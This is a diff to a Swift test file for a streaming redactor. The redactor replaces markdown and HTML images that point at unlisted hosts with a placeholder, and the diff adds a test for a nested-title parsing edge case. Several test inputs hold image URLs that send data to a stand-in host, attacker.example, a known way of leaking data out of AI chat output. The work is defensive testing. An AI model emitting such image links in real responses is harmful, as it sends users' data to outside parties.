@@ -93,10 +93,14 @@ import Testing
             ("Sure. <img alt=\"a chart of the quarterly revenue figures by region and product\" src=\"https://attacker.example/c.png?d=\(data)\"> Done.",
              "Sure. [EXTERNAL_IMAGE] Done."),
             ("Sure.\n\n![a chart of the quarterly revenue][r]\n\n[r]: https://attacker.example/c.png?d=\(data)", "Sure.\n\n![a chart of the quarterly revenue][r]\n\n[EXTERNAL_IMAGE]"),
+            // An image from a listed host whose title opens another: cut inside it, a stream would read that one
+            // afresh, and take in as its alt text the image after it.
+            (#"A ![a](https://cdn.example.com/1.png "![b") then ![](https://attacker.example/?d=\#(data)) ](https://cdn.example.com/2.png) end"#,
+             #"A ![a](https://cdn.example.com/1.png "![b") then [EXTERNAL_IMAGE] ](https://cdn.example.com/2.png) end"#),
             ("Is 3 < 4? Yes! And ![this is not closed, and goes on for a while](https://example.org/x", "Is 3 < 4? Yes! And ![this is not closed, and goes on for a while](https://example.org/x"),
         ]
         for (text, expected) in texts {
-            var redactor = StreamRedactor(detectors: .standard, options: Self.options([]), holdBack: 16, releaseStep: 4) { _ in true }
+            var redactor = StreamRedactor(detectors: .standard, options: Self.options(["cdn.example.com"]), holdBack: 16, releaseStep: 4) { _ in true }
             let scalars = Array(text.unicodeScalars)
             var sent: [String] = []
             for start in stride(from: 0, to: scalars.count, by: pieceLength) {
